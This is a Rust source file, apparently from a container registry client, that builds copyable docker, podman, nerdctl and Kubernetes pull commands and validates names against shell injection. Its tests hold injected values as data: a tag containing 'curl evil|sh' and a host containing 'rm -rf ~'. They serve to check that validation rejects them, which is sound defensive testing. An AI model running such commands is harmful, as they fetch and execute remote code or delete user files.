//! Pull commands and image references for the current tag.

use super::digest::Digest;
use super::rows::TagRow;
use crate::swr::validate;

/// The variants the pull-command menu offers, in menu order.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PullKind {
    Docker,
    Podman,
    Nerdctl,
    Digest,
    Internal,
    Kubernetes,
}

impl PullKind {
    pub const ALL: [PullKind; 6] = [
        Self::Docker,
        Self::Podman,
        Self::Nerdctl,
        Self::Digest,
        Self::Internal,
        Self::Kubernetes,
    ];

    pub fn label(self) -> &'static str {
        match self {
            Self::Docker => "docker pull",
            Self::Podman => "podman pull",
            Self::Nerdctl => "nerdctl pull",
            Self::Digest => "docker pull by digest",
            Self::Internal => "docker pull, internal address",
            Self::Kubernetes => "Kubernetes image: line",
        }
    }
}

/// Where the image lives: the host the tag's `path` names, else the profile's registry host.
pub struct ImageRef<'a> {
    pub registry: &'a str,
    pub org: &'a str,
    pub repo: &'a str,
    pub tag: &'a TagRow,
}

impl ImageRef<'_> {
    /// The registry host the service names for this tag, else the profile's.
    fn registry(&self) -> &str {
        self.tag.hosts.registry.as_deref().unwrap_or(self.registry)
    }

    /// Whether every part is a name the service could have made: the text goes into a shell,
    /// and a server must not be able to put a command there.
    pub fn check(&self) -> Result<(), String> {
        validate::namespace_name(self.org)?;
        validate::repository_name(self.repo)?;
        validate::tag_name(&self.tag.tag)
    }

    /// `<registry>/<org>/<repo>:<tag>`
    pub fn by_tag(&self) -> String {
        format!(
            "{}/{}/{}:{}",
            self.registry(),
            self.org,
            self.repo,
            self.tag.tag
        )
    }

    /// `<registry>/<org>/<repo>@sha256:…`, when the digest is one.
    pub fn by_digest(&self) -> Option<String> {
        matches!(self.tag.digest, Digest::Sha256(_)).then(|| {
            format!(
                "{}/{}/{}@{}",
                self.registry(),
                self.org,
                self.repo,
                self.tag.digest
            )
        })
    }

    /// The address cloud clusters pull from, when the service names its host.
    pub fn internal(&self) -> Option<String> {
        let host = self.tag.hosts.internal.as_deref()?;
        Some(format!(
            "{host}/{}/{}:{}",
            self.org, self.repo, self.tag.tag
        ))
    }

    /// The command to copy, once [`ImageRef::check`] passes and the kind has what it needs.
    pub fn copyable(&self, kind: PullKind) -> Result<String, String> {
        self.check()?;
        if kind == PullKind::Digest && self.by_digest().is_none() {
            return Err(format!("{} has no sha256 digest to pull by", self.tag.tag));
        }
        Ok(self.command(kind))
    }

    pub fn command(&self, kind: PullKind) -> String {
        let pull = |address: String| format!("docker pull {address}");
        match kind {
            PullKind::Docker => pull(self.by_tag()),
            PullKind::Podman => format!("podman pull {}", self.by_tag()),
            PullKind::Nerdctl => format!("nerdctl pull {}", self.by_tag()),
            PullKind::Digest => pull(self.by_digest().unwrap_or_else(|| self.by_tag())),
            PullKind::Internal => pull(self.internal().unwrap_or_else(|| self.by_tag())),
            PullKind::Kubernetes => format!("image: {}", self.by_tag()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::swr::model::Tag;

    fn tag(path: &str) -> TagRow {
        TagRow::from(Tag {
            tag: "1.0".into(),
            digest: format!("sha256:{}", "ab".repeat(32)),
            path: path.into(),
            internal_path: "10.125.0.198:20202/demo/team/web:1.0".into(),
            ..Tag::default()
        })
    }

    #[test]
    fn commands_for_every_kind() {
        let t = tag("swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0");
        let r = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "team/web",
            tag: &t,
        };
        let all: Vec<String> = PullKind::ALL.iter().map(|&k| r.command(k)).collect();
        assert_eq!(
            all,
            [
                "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
                "podman pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
                "nerdctl pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
                &format!(
                    "docker pull swr.ap-southeast-3.myhuaweicloud.com/demo/team/web@sha256:{}",
                    "ab".repeat(32)
                ),
                "docker pull 10.125.0.198:20202/demo/team/web:1.0",
                "image: swr.ap-southeast-3.myhuaweicloud.com/demo/team/web:1.0",
            ]
        );
    }

    #[test]
    fn falls_back_to_the_profile_registry() {
        let t = tag("");
        let r = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "nginx",
            tag: &t,
        };
        assert_eq!(
            r.command(PullKind::Docker),
            "docker pull swr.cn-north-4.myhuaweicloud.com/demo/nginx:1.0"
        );
    }

    #[test]
    fn names_a_server_made_up_are_never_copied() {
        let mut t = tag("swr.cn-north-4.myhuaweicloud.com/demo/web:1.0");
        let r = |t: &TagRow| {
            ImageRef {
                registry: "swr.cn-north-4.myhuaweicloud.com",
                org: "demo",
                repo: "web",
                tag: t,
            }
            .copyable(PullKind::Docker)
        };
        assert!(r(&t).is_ok());
        t.tag = "1.0;curl evil|sh".into();
        assert!(r(&t).unwrap_err().contains("must not contain"));
        let evil_host = tag("evil.example;rm -rf ~/demo/web:1.0");
        assert_eq!(
            evil_host.hosts.registry, None,
            "not a host name: the profile's is used"
        );
        let no_digest = TagRow::from(Tag {
            tag: "1.0".into(),
            digest: "sha256:short".into(),
            ..Tag::default()
        });
        let by_digest = ImageRef {
            registry: "swr.cn-north-4.myhuaweicloud.com",
            org: "demo",
            repo: "web",
            tag: &no_digest,
        }
        .copyable(PullKind::Digest);
        assert!(by_digest.unwrap_err().contains("no sha256 digest"));
    }
}
